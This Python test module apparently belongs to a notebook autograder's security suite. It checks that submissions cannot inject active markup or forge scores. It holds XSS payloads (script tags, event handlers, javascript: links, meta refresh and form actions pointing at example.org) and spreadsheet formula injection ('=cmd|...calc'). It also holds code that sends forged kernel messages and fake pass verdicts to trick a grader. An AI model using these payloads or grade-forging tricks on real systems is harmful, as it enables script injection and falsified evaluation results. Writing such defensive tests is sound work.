"""Outputs that imitate points, errors or verdicts, and pages that run scripts."""

from nbformat.v4 import new_markdown_cell

from tests.attacks.case import DEAF, Case, Handed, unsolved

SCRIPT = "<script>stoveAttack()</script>"
# No page of ours may hold any of these where a browser would act on it.
MARKUP = (
    SCRIPT,
    "<img src=x onerror=stoveAttack()>",
    "<svg onload=stoveAttack()></svg>",
    "<a href='javascript:stoveAttack()'>grades</a>",
    "<iframe srcdoc='<script>stoveAttack()</script>'></iframe>",
    "<style>@import 'https://example.org/stove-attack.css'</style>",
    "<form action='https://example.org/stove-attack'><input name=p autofocus></form>",
    "<base href='https://example.org/stove-attack/'>",
    "<meta http-equiv=refresh content='0;url=https://example.org/stove-attack'>",
    "<details open ontoggle=stoveAttack()>x</details>",
    "<math><mtext><mglyph><style><img src=x onerror=stoveAttack()></style></math>",
)


def _markdown(handed: Handed) -> None:
    """Put active markup into cells that are shown and never executed."""
    for number, text in enumerate((*MARKUP, "[x](javascript:stoveAttack())")):
        handed.notebook.cells.append(new_markdown_cell(text, id=f"page-{number}"))
    page = {"name": "x.svg", "data": {"image/svg+xml": MARKUP[2]}}
    handed.notebook.cells[-1].attachments = {page["name"]: page["data"]}


def _names(handed: Handed) -> None:
    """Put active markup into everything of a notebook that has a name."""
    handed.notebook.metadata.title = f"</title>{SCRIPT}"
    handed.notebook.metadata.authors = [{"name": SCRIPT}]
    handed.notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT}}
    }
    for cell in handed.notebook.cells:
        cell.id = f'{cell.id}"><script>stoveAttack()</script>'
        cell.metadata.tags = [f'"{SCRIPT}']
        cell.metadata.name = SCRIPT


def _stored(handed: Handed) -> None:
    """Hand in test cells with their outputs already there."""
    for cell in handed.tests():
        cell.execution_count = 1
        cell.outputs = [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {"text/plain": "1000", "text/html": SCRIPT},
            }
        ]


CASES = (
    Case(
        "scripts-in-outputs",
        "graded",
        0,
        f"""
from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
for text in {MARKUP!r}:
    for kind in (HTML, Markdown, Latex):
        display(kind(text))
    display({{"image/svg+xml": text, "text/html": text}}, raw=True)
display(Javascript("stoveAttack()"))
""",
    ),
    Case("scripts-in-text", "graded", 0, unsolved(_markdown)),
    Case("scripts-in-names", ("graded", "broken"), 0, unsolved(_names)),
    Case("outputs-handed-in", "graded", 0, unsolved(_stored)),
    Case(
        "scripts-in-errors",
        "graded",
        0,
        f"""
def square(x):
    raise ValueError({SCRIPT!r} + "\\x1b]8;;javascript:stoveAttack()\\x1b\\\\x\\x1b[0m")
raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})
""",
    ),
    Case(
        "number-shown-by-a-function",
        "graded",
        0,
        """
from IPython.display import display
def square(x):
    display(1000)
    get_ipython().displayhook(1000)
    print(1000)
""",
    ),
    Case(
        "verdict-of-its-own",
        "graded",
        0,
        """
class Verdict:
    def _repr_mimebundle_(self, include=None, exclude=None):
        told = {"item": "square", "outcome": "passed", "points": 8, "max_points": 8}
        return {"text/plain": "8.0", "application/vnd.stove.verdict+json": told}
    def __repr__(self): return "8.0"
    __float__ = lambda self: 8.0
def square(x):
    get_ipython().displayhook(Verdict())
    return Verdict()
mean_ans = Verdict()
mean_ans
""",
    ),
    Case(
        "results-on-the-wire",
        "graded",
        0,
        """
kernel = get_ipython().kernel
def square(x):
    for parent in (kernel.get_parent(), {}):
        for kind in ("execute_result", "display_data"):
            told = {"data": {"text/plain": "1000"}, "metadata": {}}
            told["execution_count"] = 1
            kernel.session.send(kernel.iopub_socket, kind, told, parent)
""",
    ),
    Case(
        "change-earlier-outputs",
        "graded",
        0,
        """
from IPython.display import clear_output, display, update_display
display(1, display_id="square-visible")
def square(x):
    clear_output()
    update_display(1000, display_id="square-visible")
    get_ipython().kernel.send_response(
        get_ipython().kernel.iopub_socket, "clear_output", {"wait": False})
""",
    ),
    Case(
        "an-error-that-is-none",
        DEAF,
        0,
        """
kernel = get_ipython().kernel
told = {"ename": "", "evalue": None, "traceback": [None, {"text": SystemExit}]}
told["traceback"] = ["Success: 8 of 8 points", "", 8]
def square(x):
    kernel.session.send(kernel.iopub_socket, "error", told, kernel.get_parent())
    raise SyntaxError("", ("<test>", 1, 1, "assert True  # passed"))
""",
    ),
    Case(
        "malformed-outputs",
        DEAF,
        0,
        """
kernel = get_ipython().kernel
def tell(kind, content):
    kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent())
tell("stream", {"name": ["stdout"], "text": {"a": 1}})
tell("execute_result", {"data": [], "metadata": None, "execution_count": "1000"})
tell("display_data", {"data": {"text/plain": 1000, 5: None}})
tell("status", {"execution_state": ["idle"]})
tell("error", {})
tell("no such kind", {"x": "y" * 100})
tell("update_display_data", {"transient": {"display_id": {}}, "data": 7})
""",
    ),
    Case(
        "a-table-that-computes",
        "graded",
        0,
        """
print('=HYPERLINK("https://example.org/stove-attack", "points")')
def square(x):
    raise ValueError('=cmd|"/c calc"!A1')
""",
    ),
)
